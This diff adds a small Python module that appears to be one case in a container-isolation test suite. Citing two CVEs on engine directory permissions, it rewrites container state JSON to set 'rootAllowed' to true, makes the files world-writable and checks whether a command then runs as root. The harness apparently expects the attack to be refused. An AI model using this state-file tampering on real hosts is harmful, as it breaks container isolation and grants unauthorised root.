@@ -1,0 +1,16 @@
+"""Others may write the record of what a container is held to."""
+
+import glob
+
+from bypass import refused
+
+SOURCE = "idea; CVE-2021-41103, CVE-2024-25621: modes of an engine's directories"
+WAY = "state"
+STOPPED = refused("state")
+
+
+def attack(t):
+    t.up()
+    for path in glob.glob("/run/closedclaw/*/%s.json" % t.id):
+        t.write(path, t.read(path).replace('"rootAllowed":false', '"rootAllowed":true'), 0o666)
+    return t.exec("id -u", user={"uid": 0, "gid": 0}).strip() == "0" and "uid 0"
